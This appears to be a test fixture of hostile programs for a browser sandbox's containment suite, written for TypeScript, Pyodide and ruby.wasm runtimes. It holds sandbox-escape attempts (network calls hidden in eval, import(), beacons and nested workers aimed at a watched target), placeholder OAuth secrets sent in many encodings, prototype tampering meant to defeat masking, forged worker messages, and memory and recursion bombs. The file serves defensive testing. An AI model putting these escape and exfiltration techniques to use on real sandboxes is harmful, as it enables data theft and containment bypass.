/**
 * The containment contract's hostile programs, one entry per language that runs in the page.
 * `e2e/containment.spec.ts` runs every case of every entry and makes the same assertions for all:
 * a runtime meets the contract by supplying its programs here (Ruby, PHP and Go add an entry).
 *
 * Each program prints what it tried, one line per attempt (`name: closed` when the attempt threw
 * or was refused), so the expected lines are data too. Programs that attack the network get the
 * loopback target the spec watches (`target`, `host:port`); none prints a secret itself.
 */

export interface HostilePrograms {
  /** Network escapes through the language's own HTTP and JavaScript bridges. */
  network: { program: (target: string) => string; lines: string[] };
  /** Requests answered by the sandbox's mock server however the code reaches fetch. */
  mockedFetch: { program: string; lines: string[] };
  /** The worker's storage and the site's: closed, or the worker's own memory (gone with it). */
  storage: { program: string; lines: string[] };
  /** Messages forged to the page or to the worker itself: ignored, the run goes on. */
  forgedMessages: { program: string; lines: string[] };
  /** A consent screen whose "page as the server sent it" would load from `target`. */
  consentHtml: (target: string) => string;
  /** The demo secrets sent in every encoding (headers, forms, multipart sent twice, JSON). */
  secretsSent: string;
  /** The same after replacing the built-ins masking would use. */
  secretsSentAfterTampering: string;
  /** A timer's callback that throws, then the run goes on and prints `still running`. */
  uncaughtTimerError: { program: string; errorLine: RegExp } | NotApplicable;
  /** Timers left behind that print `late` after the run ended. */
  outlivesRun: string;
  endlessLoop: string;
  /** Allocations the runtime refuses: each ends the run with an error, quickly. */
  memoryBomb: string;
  recursionBomb: string;
  /** Millions of characters of output, a hundred thousand lines, and an error of millions. */
  hugeOutput: string;
  /** The runtime itself dying: reported at once with what happened. */
  fatal: { name: string; program: string; status: RegExp }[];
}

/** A case that does not apply to a language, and why: the suite shows it skipped, with this. */
export interface NotApplicable {
  notApplicable: string;
}

export interface RuntimeUnderTest {
  /** The tab's label. */
  label: string;
  /** Console errors the runtime itself logs in a case, each with why it is allowed. */
  allowedConsoleErrors?: { pattern: RegExp; reason: string }[];
  programs: HostilePrograms;
}

/** The demo credentials: never in anything the page receives from a run. */
export const secrets = {
  clientSecret: 'OAuthClientSecret',
  password: 'OAuthPassword',
  basic: Buffer.from('OAuthClientId:OAuthClientSecret').toString('base64'),
};

/** A TypeScript run that asks the reader's consent, as the authorization code examples do. */
export const typescriptAsksConsent = `import { browser } from 'sandbox';
import { Client, OAuthScopeEnum } from 'sdk';
const client = new Client({
  authorizationCodeAuthCredentials: {
    oAuthClientId: 'OAuthClientId',
    oAuthClientSecret: 'OAuthClientSecret',
    oAuthRedirectUri: 'https://example.com/oauth/callback',
    oAuthScopes: [OAuthScopeEnum.ReadScope],
  },
});
const manager = client.authorizationCodeAuthManager!;
await browser.authorize(manager.buildAuthorizationUrl('s')).catch(() => undefined);`;

const hostileHtml = (target: string) =>
  [
    `<img src="http://${target}/img.png">`,
    `<img srcset="http://${target}/srcset.png 2x">`,
    `<link rel="stylesheet" href="http://${target}/style.css">`,
    `<link rel="prefetch" href="http://${target}/prefetch">`,
    `<iframe src="http://${target}/frame.html"></iframe>`,
    `<body background="http://${target}/background.png">`,
    `<div style="background:url(http://${target}/inline-style.png)">x</div>`,
    `<style>body{background:url(http://${target}/style-element.png)}</style>`,
    `<video poster="http://${target}/poster.png" src="http://${target}/video.mp4"></video>`,
    `<object data="http://${target}/object"></object>`,
    `<meta http-equiv="refresh" content="0;url=http://${target}/refresh">`,
    `<svg><image href="http://${target}/svg.png"/></svg>`,
  ].join('\n');

// ---------------------------------------------------------------------------------------------
// TypeScript

const tsProbe = `
async function probe(attempts: [string, () => unknown][]) {
  for (const [name, attempt] of attempts) {
    try {
      await attempt();
      console.log(\`\${name}: open\`);
    } catch {
      console.log(\`\${name}: closed\`);
    }
  }
}
/** A member as the browser defined it: from the prototypes first, then the object itself. */
function dig(object: object, name: string): any {
  for (let current: any = Object.getPrototypeOf(object); current; current = Object.getPrototypeOf(current)) {
    const own = Object.getOwnPropertyDescriptor(current, name);
    if (own) return own.get ? own.get.call(object) : own.value;
  }
  return (object as any)[name];
}
`;

const tsSendSecrets = `
const token = 'https://auth.example.com/oauth2/token';
const basic = 'Basic ' + btoa('OAuthClientId:OAuthClientSecret');
const send = (input: RequestInfo, init?: RequestInit) => fetch(input, init).catch(() => undefined);
const form = new FormData();
form.set('grant_type', 'password');
form.set('client_secret', 'OAuthClientSecret');
form.set('password', 'OAuthPassword');
// As Pyodide's pyfetch does: a Request with the form, and the form again (a second boundary).
await send(new Request(token, { method: 'POST', body: form }), { method: 'POST', body: form });
await send(token, { method: 'POST', body: form });
await send(token, { method: 'POST', headers: { authorization: basic, 'content-type': 'application/x-www-form-urlencoded' }, body: 'grant_type=password&username=OAuthUsername&password=OAuthPassword' });
await send(token, { method: 'POST', headers: { 'content-type': 'application/json', 'x-client-secret': 'OAuthClientSecret' }, body: JSON.stringify({ clientSecret: 'OAuthClientSecret', password: 'OAuthPassword' }) });
await send(token, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'client_secret=OAuthClientSecret&password=OAuthPassword' });
await send(token + '?client_secret=OAuthClientSecret&password=OAuthPassword');
import { Client } from 'sdk';
const client = new Client({
  resourceOwnerAuthCredentials: {
    oAuthClientId: 'OAuthClientId',
    oAuthClientSecret: 'OAuthClientSecret',
    oAuthUsername: 'OAuthUsername',
    oAuthPassword: 'OAuthPassword',
  },
});
await client.resourceOwnerAuthManager!.fetchToken();
console.log('sent');
`;

const typescript: RuntimeUnderTest = {
  label: 'TypeScript',
  programs: {
    network: {
      program: (target) => `${tsProbe}
await probe([
  ['fetch of another host', () => fetch('http://${target}/fetch')],
  ['fetch through the prototype', () => dig(self, 'fetch').call(self, 'http://${target}/prototype-fetch')],
  ['import() hidden in eval', () => (0, eval)("import('http://${target}/eval.js')")],
  ['import() hidden in new Function', () => new Function("return import('http://${target}/function.js')")()],
  ['FontFace', () => new FontFace('x', 'url(http://${target}/font.woff)').load()],
  ['importScripts on a prototype', () => dig(self, 'importScripts').call(self, 'http://${target}/script.js')],
  ['WebSocket', () => new WebSocket('ws://${target}/socket')],
  ['EventSource', () => new EventSource('http://${target}/events')],
  ['XMLHttpRequest', () => new XMLHttpRequest()],
  ['sendBeacon', () => dig(navigator, 'sendBeacon').call(navigator, 'http://${target}/beacon')],
  ['nested Worker', () => new Worker('data:text/javascript,fetch("http://${target}/nested")')],
]);`,
      lines: [
        'fetch of another host: closed',
        'fetch through the prototype: closed',
        'import() hidden in eval: closed',
        'import() hidden in new Function: closed',
        'FontFace: closed',
        'importScripts on a prototype: closed',
        'WebSocket: closed',
        'EventSource: closed',
        'XMLHttpRequest: closed',
        'sendBeacon: closed',
        'nested Worker: closed',
      ],
    },
    mockedFetch: {
      program: `${tsProbe}
const metadata = 'https://auth.example.com/.well-known/oauth-authorization-server';
for (const [name, fetchWith] of [
  ['fetch', fetch],
  ['fetch through the prototype', dig(self, 'fetch')],
] as const) {
  const response = await fetchWith.call(self, metadata).catch(() => undefined);
  console.log(\`\${name}: \${response ? response.status : 'refused'}\`);
}`,
      lines: ['fetch: 200', 'fetch through the prototype: 200'],
    },
    storage: {
      program: `${tsProbe}
await probe([
  ['IndexedDB', () => dig(self, 'indexedDB').open('left-behind')],
  ['Cache API', () => dig(self, 'caches').open('left-behind')],
  ['OPFS', () => dig(navigator, 'storage').getDirectory()],
  ['Web Locks', () => dig(navigator, 'locks').request('held', () => new Promise(() => {}))],
  ['BroadcastChannel', () => new BroadcastChannel('runs').postMessage('hello')],
]);
console.log(\`left by an earlier run: \${localStorage.getItem('left-behind') ?? 'nothing'}\`);
localStorage.setItem('left-behind', 'something');`,
      lines: [
        'IndexedDB: closed',
        'Cache API: closed',
        'OPFS: closed',
        'Web Locks: closed',
        'BroadcastChannel: closed',
        'left by an earlier run: nothing',
      ],
    },
    forgedMessages: {
      program: `${tsProbe}
const forgedEnd = { type: 'done', outcome: { kind: 'ok', durationMs: 1 } };
const forgedLine = { type: 'events', events: [{ kind: 'console', level: 'log', text: 'FORGED' }] };
await probe([
  ['postMessage', () => (self as any).postMessage(forgedEnd)],
  ['postMessage on a prototype', () => dig(self, 'postMessage').call(self, forgedLine)],
  ['close', () => (self as any).close()],
]);
// A decision nobody asked for, dispatched on the worker itself: ignored.
self.dispatchEvent(new MessageEvent('message', { data: { type: 'consent-decision', id: 1, decision: 'approve' } }));
await new Promise((resolve) => setTimeout(resolve, 200));
console.log('the real end');`,
      lines: [
        'postMessage: closed',
        'postMessage on a prototype: closed',
        'close: closed',
        'the real end',
      ],
    },
    consentHtml: (target) => `
const handler = (globalThis as any)[Symbol.for('oauth-sdk-docs.sandbox.environment')].consentHandler;
const decision = await handler({
  clientId: 'OAuthClientId',
  clientName: 'Hostile client',
  scopes: ['read'],
  redirectUri: 'https://example.com/oauth/callback',
  html: ${JSON.stringify(hostileHtml(target))},
});
console.log(\`decision: \${decision}\`);`,
    secretsSent: tsSendSecrets,
    secretsSentAfterTampering: `
const identity = function (this: unknown) { return this; };
String.prototype.toLowerCase = identity as any;
String.prototype.replace = identity as any;
String.prototype.split = (() => []) as any;
String.prototype.slice = identity as any;
String.prototype.indexOf = () => -1;
RegExp.prototype.exec = () => null;
RegExp.prototype.test = () => false;
Array.prototype.map = identity as any;
Array.prototype.join = () => '';
Set.prototype.has = () => false;
Object.entries = () => [];
(globalThis as any).atob = () => '';
${tsSendSecrets}`,
    uncaughtTimerError: {
      program: `setTimeout(() => { throw new Error('thrown by a timer'); }, 0);
Promise.reject(new Error('rejected, never awaited'));
await new Promise((resolve) => setTimeout(resolve, 300));
console.log('still running');`,
      errorLine: /thrown by a timer/,
    },
    outlivesRun: `setTimeout(() => console.log('late'), 7_000);
setInterval(() => fetch('https://auth.example.com/.well-known/oauth-authorization-server'), 1_000);
console.log('started the timers');`,
    endlessLoop: 'for (;;) {}',
    memoryBomb: `const kept: unknown[] = [];
kept.push(new ArrayBuffer(2 ** 40));`,
    recursionBomb: 'const down = (n: number): number => down(n + 1) + 1;\ndown(0);',
    hugeOutput: `console.log('y'.repeat(5_000_000));
for (let line = 0; line < 100_000; line++) console.log('line');
throw new Error('x'.repeat(2_000_000));`,
    fatal: [],
  },
};

// ---------------------------------------------------------------------------------------------
// Python (Pyodide)

const pyProbe = `import js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js


async def probe(attempts):
    for name, attempt in attempts:
        try:
            result = attempt()
            if hasattr(result, "__await__"):
                await result
            print(f"{name}: open")
        except BaseException:
            print(f"{name}: closed")


# A member as the browser defined it: from the prototypes first, then the object itself.
dig = run_js("""(object, name) => {
  for (let current = Object.getPrototypeOf(object); current; current = Object.getPrototypeOf(current)) {
    const own = Object.getOwnPropertyDescriptor(current, name);
    if (own) return own.get ? own.get.call(object) : own.value;
  }
  return object[name];
}""")


def js_object(**fields):
    return to_js(fields, dict_converter=js.Object.fromEntries)
`;

const pySendSecrets = `import js
from pyodide.http import pyfetch
from pyodide.ffi import to_js

token = "https://auth.example.com/oauth2/token"


async def send(url, **options):
    try:
        await pyfetch(url, **options)
    except BaseException:
        pass


form = js.FormData.new()
form.set("grant_type", "password")
form.set("client_secret", "OAuthClientSecret")
form.set("password", "OAuthPassword")
# pyfetch builds a Request with the form and fetches it with the form again: two boundaries.
await send(token, method="POST", body=form)
basic = "Basic " + js.btoa("OAuthClientId:OAuthClientSecret")
await send(token, method="POST", headers=to_js({"authorization": basic, "content-type": "application/x-www-form-urlencoded"}, dict_converter=js.Object.fromEntries), body="grant_type=password&username=OAuthUsername&password=OAuthPassword")
await send(token, method="POST", headers=to_js({"content-type": "application/json", "x-client-secret": "OAuthClientSecret"}, dict_converter=js.Object.fromEntries), body='{"clientSecret": "OAuthClientSecret", "password": "OAuthPassword"}')
await send(token, method="POST", headers=to_js({"content-type": "text/plain"}, dict_converter=js.Object.fromEntries), body="client_secret=OAuthClientSecret&password=OAuthPassword")
await send(token + "?client_secret=OAuthClientSecret&password=OAuthPassword")

from sdk.http.auth.o_auth_2 import ResourceOwnerAuthCredentials
from sdk.sdk_client import SdkClient

client = SdkClient(
    resource_owner_auth_credentials=ResourceOwnerAuthCredentials(
        o_auth_client_id="OAuthClientId",
        o_auth_client_secret="OAuthClientSecret",
        o_auth_username="OAuthUsername",
        o_auth_password="OAuthPassword",
    )
)
client.http_ropcg.fetch_token()
print("sent")
`;

const python: RuntimeUnderTest = {
  label: 'Python',
  allowedConsoleErrors: [
    {
      pattern:
        /Pyodide has suffered a fatal error|The cause of the fatal error was|RangeError: Maximum call stack|Stack \(most recent call first\)|File "|^\s*$|at /,
      reason:
        "Pyodide reports a fatal error to the worker's console itself, before its on_fatal hook ends the run",
    },
  ],
  programs: {
    network: {
      program: (target) => `${pyProbe}
from pyodide.http import pyfetch
from pyodide.code import run_js
from js import WebSocket

url = "http://${target}"
await probe([
    ("pyodide.http.pyfetch", lambda: pyfetch(f"{url}/pyfetch")),
    ("js.fetch", lambda: js.fetch(f"{url}/js-fetch")),
    ("fetch through the prototype", lambda: dig(js.self, "fetch").call(js.self, f"{url}/prototype-fetch")),
    ("import() through run_js", lambda: run_js(f"import('{url}/run-js.js')")),
    ("import() through js.eval", lambda: js.eval(f"import('{url}/eval.js')")),
    # As WebKit refuses an import(): with an error that has no stack (Pyodide needs one to raise).
    ("a refusal with no stack", lambda: run_js("(() => { const e = new TypeError('refused'); delete e.stack; return Promise.reject(e); })()")),
    ("a throw with no stack", lambda: run_js("(() => { const e = new TypeError('refused'); delete e.stack; throw e; })()")),
    ("importScripts on a prototype", lambda: dig(js.self, "importScripts").call(js.self, f"{url}/script.js")),
    ("WebSocket", lambda: WebSocket.new("ws://${target}/socket")),
    ("EventSource", lambda: js.EventSource.new(f"{url}/events")),
    ("XMLHttpRequest", lambda: js.XMLHttpRequest.new()),
    ("sendBeacon", lambda: dig(js.navigator, "sendBeacon").call(js.navigator, f"{url}/beacon")),
    ("nested Worker", lambda: js.Worker.new(f"data:text/javascript,fetch('{url}/nested')")),
])`,
      lines: [
        'pyodide.http.pyfetch: closed',
        'js.fetch: closed',
        'fetch through the prototype: closed',
        'import() through run_js: closed',
        'import() through js.eval: closed',
        'a refusal with no stack: closed',
        'a throw with no stack: closed',
        'importScripts on a prototype: closed',
        'WebSocket: closed',
        'EventSource: closed',
        'XMLHttpRequest: closed',
        'sendBeacon: closed',
        'nested Worker: closed',
      ],
    },
    mockedFetch: {
      program: `${pyProbe}
from pyodide.http import pyfetch

metadata = "https://auth.example.com/.well-known/oauth-authorization-server"
for name, attempt in [
    ("pyfetch", lambda: pyfetch(metadata)),
    ("js.fetch", lambda: js.fetch(metadata)),
    ("fetch through the prototype", lambda: dig(js.self, "fetch").call(js.self, metadata)),
]:
    try:
        response = await attempt()
        print(f"{name}: {response.status}")
    except BaseException:
        print(f"{name}: refused")`,
      lines: ['pyfetch: 200', 'js.fetch: 200', 'fetch through the prototype: 200'],
    },
    storage: {
      program: `${pyProbe}
await probe([
    ("IndexedDB", lambda: dig(js.self, "indexedDB").open("left-behind")),
    ("Cache API", lambda: dig(js.self, "caches").open("left-behind")),
    ("OPFS", lambda: dig(js.navigator, "storage").getDirectory()),
    ("Web Locks", lambda: dig(js.navigator, "locks").request("held", create_proxy(lambda lock: js.Promise.new(create_proxy(lambda resolve, reject: None))))),
    ("BroadcastChannel", lambda: js.BroadcastChannel.new("runs").postMessage("hello")),
])
left = js.localStorage.getItem("left-behind")
print(f"left by an earlier run: {left if isinstance(left, str) else 'nothing'}")
js.localStorage.setItem("left-behind", "something")`,
      lines: [
        'IndexedDB: closed',
        'Cache API: closed',
        'OPFS: closed',
        'Web Locks: closed',
        'BroadcastChannel: closed',
        'left by an earlier run: nothing',
      ],
    },
    forgedMessages: {
      program: `${pyProbe}
import asyncio

forged_end = js_object(type="done", outcome=js_object(kind="ok", durationMs=1))
forged_line = js_object(type="events", events=[js_object(kind="console", level="log", text="FORGED")])
await probe([
    ("postMessage", lambda: js.postMessage(forged_end)),
    ("postMessage on a prototype", lambda: dig(js.self, "postMessage").call(js.self, forged_line)),
    ("close", lambda: js.close()),
])
decision = js_object(type="consent-decision", id=1, decision="approve")
js.self.dispatchEvent(js.MessageEvent.new("message", js_object(data=decision)))
await asyncio.sleep(0.2)
print("the real end")`,
      lines: [
        'postMessage: closed',
        'postMessage on a prototype: closed',
        'close: closed',
        'the real end',
      ],
    },
    consentHtml: (target) => `import json
import runner_host

view = {
    "clientId": "OAuthClientId",
    "clientName": "Hostile client",
    "scopes": ["read"],
    "redirectUri": "https://example.com/oauth/callback",
    "html": ${JSON.stringify(hostileHtml(target))},
}
decision = await runner_host.consent(json.dumps(view))
print(f"decision: {decision}")`,
    secretsSent: pySendSecrets,
    secretsSentAfterTampering: `from pyodide.code import run_js

run_js("""
const identity = function () { return this; };
String.prototype.toLowerCase = identity;
String.prototype.replace = identity;
String.prototype.slice = identity;
String.prototype.indexOf = () => -1;
RegExp.prototype.exec = () => null;
RegExp.prototype.test = () => false;
Array.prototype.join = () => '';
Set.prototype.has = () => false;
Object.entries = () => [];
""")
${pySendSecrets}`,
    uncaughtTimerError: {
      program: `import asyncio
import js
from pyodide.ffi import create_proxy


def throws():
    raise ValueError("raised in a timer")


js.setTimeout(create_proxy(throws), 0)
await asyncio.sleep(0.3)
print("still running")`,
      errorLine: /ValueError: raised in a timer/,
    },
    outlivesRun: `import js
from pyodide.ffi import create_proxy

js.setTimeout(create_proxy(lambda: print("late")), 7_000)
js.setInterval(create_proxy(lambda: js.fetch("https://auth.example.com/.well-known/oauth-authorization-server")), 1_000)
print("started the timers")`,
    endlessLoop: 'while True:\n    pass',
    memoryBomb: 'kept = []\nkept.append(bytearray(8 * 1024 ** 3))',
    recursionBomb: 'def down(n):\n    return down(n + 1) + 1\n\n\ndown(0)',
    hugeOutput: `print("y" * 5_000_000)
print("line\\n" * 100_000)
raise Exception("x" * 2_000_000)`,
    fatal: [
      {
        name: 'a C stack overflow in repr() of a deeply nested list',
        program: 'nested = []\nfor _ in range(1_000_000):\n    nested = [nested]\nrepr(nested)',
        status: /^The runner stopped unexpectedly: the interpreter crashed: .+/,
      },
      {
        name: 'os._exit(3)',
        program: 'import os\n\nprint("exiting")\nos._exit(3)',
        status: /^Failed after [^:]*: the program exited with status 3$/,
      },
    ],
  },
};

// ---------------------------------------------------------------------------------------------
// Ruby (ruby.wasm)

const rbProbe = `require 'js'
require 'json'
require 'net/http'

def probe(attempts)
  attempts.each do |name, attempt|
    begin
      result = attempt.call
      JS.global[:Promise].call(:resolve, result).await if result.is_a?(JS::Object)
      puts "#{name}: open"
    rescue Exception
      puts "#{name}: closed"
    end
  end
end

# A member as the browser defined it: from the prototypes first, then the object itself.
def dig(object, name)
  current = JS.global[:Object].call(:getPrototypeOf, object)
  while current.typeof == 'object' && current.to_s != 'null'
    own = JS.global[:Object].call(:getOwnPropertyDescriptor, current, name)
    if own.typeof == 'object'
      return own[:get].typeof == 'function' ? own[:get].call(:call, object) : own[:value]
    end
    current = JS.global[:Object].call(:getPrototypeOf, current)
  end
  object[name]
end

def js_data(value)
  JS.global[:JSON].call(:parse, JSON.generate(value))
end
`;

const rbSendSecrets = `require 'js'
require 'net/http'
require 'json'

token = URI('https://auth.example.com/oauth2/token')

def send_quietly
  yield
rescue Exception
  nil
end

form = JS.global[:FormData].new
form.call(:set, 'grant_type', 'password')
form.call(:set, 'client_secret', 'OAuthClientSecret')
form.call(:set, 'password', 'OAuthPassword')
post_form = JS.global[:JSON].call(:parse, '{"method":"POST"}')
post_form[:body] = form
# A Request with the form, and the form again (a second boundary).
send_quietly { JS.global.call(:fetch, JS.global[:Request].new(token.to_s, post_form), post_form).await }
send_quietly { JS.global.call(:fetch, token.to_s, post_form).await }
Net::HTTP.start(token.host, token.port, use_ssl: true) do |http|
  basic = Net::HTTP::Post.new(token)
  basic.basic_auth('OAuthClientId', 'OAuthClientSecret')
  basic.set_form_data(grant_type: 'password', username: 'OAuthUsername', password: 'OAuthPassword')
  send_quietly { http.request(basic) }
  json = Net::HTTP::Post.new(token, 'content-type' => 'application/json', 'x-client-secret' => 'OAuthClientSecret')
  json.body = JSON.generate(clientSecret: 'OAuthClientSecret', password: 'OAuthPassword')
  send_quietly { http.request(json) }
  text = Net::HTTP::Post.new(token, 'content-type' => 'text/plain')
  text.body = 'client_secret=OAuthClientSecret&password=OAuthPassword'
  send_quietly { http.request(text) }
  send_quietly { http.request(Net::HTTP::Get.new("#{token.path}?client_secret=OAuthClientSecret&password=OAuthPassword")) }
end

client = Sdk::Client.new(
  resource_owner_auth_credentials: Sdk::ResourceOwnerAuthCredentials.new(
    o_auth_client_id: 'OAuthClientId',
    o_auth_client_secret: 'OAuthClientSecret',
    o_auth_username: 'OAuthUsername',
    o_auth_password: 'OAuthPassword'
  )
)
client.http_ropcg.fetch_token
puts 'sent'
`;

const ruby: RuntimeUnderTest = {
  label: 'Ruby',
  programs: {
    network: {
      program: (target) => `${rbProbe}
url = 'http://${target}'
probe([
  ['Net::HTTP', -> { Net::HTTP.get(URI("#{url}/net-http")) }],
  ['JS fetch', -> { JS.global.call(:fetch, "#{url}/js-fetch") }],
  ['fetch through the prototype', -> { dig(JS.global, 'fetch').call(:call, JS.global, "#{url}/prototype-fetch") }],
  ['importScripts on a prototype', -> { dig(JS.global, 'importScripts').call(:call, JS.global, "#{url}/script.js") }],
  ['WebSocket', -> { JS.global[:WebSocket].new('ws://${target}/socket') }],
  ['EventSource', -> { JS.global[:EventSource].new("#{url}/events") }],
  ['XMLHttpRequest', -> { JS.global[:XMLHttpRequest].new }],
  ['sendBeacon', -> { dig(JS.global[:navigator], 'sendBeacon').call(:call, JS.global[:navigator], "#{url}/beacon") }],
  ['nested Worker', -> { JS.global[:Worker].new("data:text/javascript,fetch('#{url}/nested')") }],
])`,
      lines: [
        'Net::HTTP: closed',
        'JS fetch: closed',
        'fetch through the prototype: closed',
        'importScripts on a prototype: closed',
        'WebSocket: closed',
        'EventSource: closed',
        'XMLHttpRequest: closed',
        'sendBeacon: closed',
        'nested Worker: closed',
      ],
    },
    mockedFetch: {
      program: `${rbProbe}
metadata = 'https://auth.example.com/.well-known/oauth-authorization-server'
[
  ['Net::HTTP', -> { Net::HTTP.get_response(URI(metadata)).code }],
  ['JS fetch', -> { JS.global.call(:fetch, metadata).await[:status].to_s }],
  ['fetch through the prototype', -> { dig(JS.global, 'fetch').call(:call, JS.global, metadata).await[:status].to_s }],
].each do |name, attempt|
  puts "#{name}: #{attempt.call}"
rescue Exception
  puts "#{name}: refused"
end`,
      lines: ['Net::HTTP: 200', 'JS fetch: 200', 'fetch through the prototype: 200'],
    },
    storage: {
      program: `${rbProbe}
navigator = JS.global[:navigator]
probe([
  ['IndexedDB', -> { dig(JS.global, 'indexedDB').call(:open, 'left-behind') }],
  ['Cache API', -> { dig(JS.global, 'caches').call(:open, 'left-behind') }],
  ['OPFS', -> { dig(navigator, 'storage').call(:getDirectory) }],
  ['Web Locks', -> { dig(navigator, 'locks').call(:request, 'held', JS.global[:Promise]) }],
  ['BroadcastChannel', -> { JS.global[:BroadcastChannel].new('runs').call(:postMessage, 'hello') }],
])
left = JS.global[:localStorage].call(:getItem, 'left-behind')
puts "left by an earlier run: #{left.typeof == 'string' ? left.to_s : 'nothing'}"
JS.global[:localStorage].call(:setItem, 'left-behind', 'something')`,
      lines: [
        'IndexedDB: closed',
        'Cache API: closed',
        'OPFS: closed',
        'Web Locks: closed',
        'BroadcastChannel: closed',
        'left by an earlier run: nothing',
      ],
    },
    forgedMessages: {
      program: `${rbProbe}
forged_end = js_data(type: 'done', outcome: { kind: 'ok', durationMs: 1 })
forged_line = js_data(type: 'events', events: [{ kind: 'console', level: 'log', text: 'FORGED' }])
probe([
  ['postMessage', -> { JS.global.call(:postMessage, forged_end) }],
  ['postMessage on a prototype', -> { dig(JS.global, 'postMessage').call(:call, JS.global, forged_line) }],
  ['close', -> { JS.global.call(:close) }],
])
# A decision nobody asked for, dispatched on the worker itself: ignored.
decision = js_data(data: { type: 'consent-decision', id: 1, decision: 'approve' })
JS.global.call(:dispatchEvent, JS.global[:MessageEvent].new('message', decision))
sleep 0.2
puts 'the real end'`,
      lines: [
        'postMessage: closed',
        'postMessage on a prototype: closed',
        'close: closed',
        'the real end',
      ],
    },
    consentHtml: (target) => `decision = RunnerHost.consent(
  clientId: 'OAuthClientId',
  clientName: 'Hostile client',
  scopes: ['read'],
  redirectUri: 'https://example.com/oauth/callback',
  html: ${JSON.stringify(hostileHtml(target))}
)
puts "decision: #{decision}"`,
    secretsSent: rbSendSecrets,
    // Ruby reaches JavaScript's built-ins as values: each is replaced by a JavaScript function
    // that answers its receiver (Object.prototype.valueOf) or nothing (Function.prototype). The
    // few ruby.wasm's glue needs are kept by the worker: that replacement fails, the others hold.
    secretsSentAfterTampering: `require 'js'
identity = JS.global[:Object][:prototype][:valueOf]
nothing = JS.global[:Function][:prototype]
[
  [JS.global[:String][:prototype], %w[toLowerCase replace slice indexOf], identity],
  [JS.global[:RegExp][:prototype], %w[exec test], nothing],
  [JS.global[:Array][:prototype], %w[join], nothing],
  [JS.global[:Set][:prototype], %w[has], nothing],
].each do |prototype, names, replacement|
  names.each do |name|
    prototype[name] = replacement
  rescue JS::Error
    nil
  end
end
${rbSendSecrets}`,
    // Ruby has no threads in ruby.wasm (Thread.new raises NotImplementedError): a Ruby block on a
    // JavaScript timer is its callback that raises.
    uncaughtTimerError: {
      program: `require 'js'
JS.global.call(:setTimeout) { raise 'raised in a timer' }
sleep 0.3
puts 'still running'`,
      errorLine: /raised in a timer/,
    },
    outlivesRun: `require 'js'
def js_function(&block) = JS.global[:Array].call(:of, &block)[0]
JS.global.call(:setTimeout, js_function { puts 'late' }, 7_000)
JS.global.call(:setInterval, js_function { JS.global.call(:fetch, 'https://auth.example.com/.well-known/oauth-authorization-server') }, 1_000)
puts 'started the timers'`,
    endlessLoop: 'loop {}',
    memoryBomb: 'kept = []\nkept << Array.new(2**30, 0)',
    recursionBomb: 'def down(n) = down(n + 1) + 1\ndown(0)',
    hugeOutput: `puts 'y' * 5_000_000
puts "line\\n" * 100_000
raise 'x' * 2_000_000`,
    fatal: [
      {
        name: 'exit 3',
        program: "puts 'exiting'\nexit 3",
        status: /^Failed after [^:]*: the program exited with status 3$/,
      },
      {
        name: 'exit!(3), which ends the interpreter at once',
        program: "puts 'exiting'\nexit!(3)",
        status: /^Failed after [^:]*: the program exited with status 3$/,
      },
    ],
  },
};

// ---------------------------------------------------------------------------------------------
// PHP (php-wasm)

/**
 * PHP reaches JavaScript through php-wasm's Vrzno bridge: `new Vrzno()` is the worker's global,
 * `vrzno_await` waits for a promise, `vrzno_eval` runs JavaScript. Attempts written in JavaScript
 * go through `attempt` (defined with vrzno_eval): it answers 'open' or 'closed'.
 */
const phpProbe = `<?php
vrzno_eval(<<<'JS'
globalThis.dig = (object, name) => {
  for (let current = Object.getPrototypeOf(object); current; current = Object.getPrototypeOf(current)) {
    const own = Object.getOwnPropertyDescriptor(current, name);
    if (own) return own.get ? own.get.call(object) : own.value;
  }
  return object[name];
};
globalThis.attempt = (code) => {
  try {
    return Promise.resolve((0, eval)(code)).then(() => 'open', () => 'closed');
  } catch {
    return Promise.resolve('closed');
  }
};
globalThis.pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
JS);
$window = new Vrzno();

/** @param array<string, string> $attempts JavaScript, by name */
function probe(array $attempts): void
{
    global $window;
    foreach ($attempts as $name => $js) {
        echo "$name: ", vrzno_await($window->attempt($js)), "\\n";
    }
}

/** A Response's status, or 'refused' for what vrzno_await hands back of a rejection. */
function statusOf(mixed $response): string
{
    $status = is_object($response) ? $response->status : null;
    return is_numeric($status) ? (string) (int) $status : 'refused';
}
`;

const phpSendSecrets = `
$token = 'https://auth.example.com/oauth2/token';
// Through JavaScript: a Request with the form, and the form again (a second boundary).
vrzno_eval(<<<'JS'
globalThis.sendForm = async (url) => {
  const form = new FormData();
  form.set('grant_type', 'password');
  form.set('client_secret', 'OAuthClientSecret');
  form.set('password', 'OAuthPassword');
  await fetch(new Request(url, { method: 'POST', body: form }), { method: 'POST', body: form }).catch(() => undefined);
  await fetch(url, { method: 'POST', body: form }).catch(() => undefined);
  return 'sent';
};
JS);
vrzno_await((new Vrzno())->sendForm($token));
// Through PHP's own HTTP (php-wasm's stream wrapper).
$send = static function (string $url, string $method = 'GET', array $headers = [], string $body = ''): void {
    @file_get_contents($url, false, stream_context_create(['http' => [
        'method' => $method,
        'header' => implode("\\r\\n", $headers),
        'content' => $body,
        'ignore_errors' => true,
    ]]));
};
$boundary = 'hostile-boundary';
$multipart = '';
foreach (['grant_type' => 'password', 'client_secret' => 'OAuthClientSecret', 'password' => 'OAuthPassword'] as $name => $value) {
    $multipart .= "--$boundary\\r\\nContent-Disposition: form-data; name=\\"$name\\"\\r\\n\\r\\n$value\\r\\n";
}
$multipart .= "--$boundary--\\r\\n";
$send($token, 'POST', ["Content-Type: multipart/form-data; boundary=$boundary"], $multipart);
$send($token, 'POST', ['Authorization: Basic ' . base64_encode('OAuthClientId:OAuthClientSecret'), 'Content-Type: application/x-www-form-urlencoded'], 'grant_type=password&username=OAuthUsername&password=OAuthPassword');
$send($token, 'POST', ['Content-Type: application/json', 'X-Client-Secret: OAuthClientSecret'], json_encode(['clientSecret' => 'OAuthClientSecret', 'password' => 'OAuthPassword']));
$send($token, 'POST', ['Content-Type: text/plain'], 'client_secret=OAuthClientSecret&password=OAuthPassword');
$send($token . '?client_secret=OAuthClientSecret&password=OAuthPassword');
\\Sdk\\SdkClientBuilder::init()
    ->resourceOwnerAuthCredentials(\\Sdk\\Authentication\\ResourceOwnerAuthCredentialsBuilder::init('OAuthClientId', 'OAuthClientSecret', 'OAuthUsername', 'OAuthPassword'))
    ->build()
    ->getResourceOwnerAuth()
    ->fetchToken();
echo "sent\\n";
`;

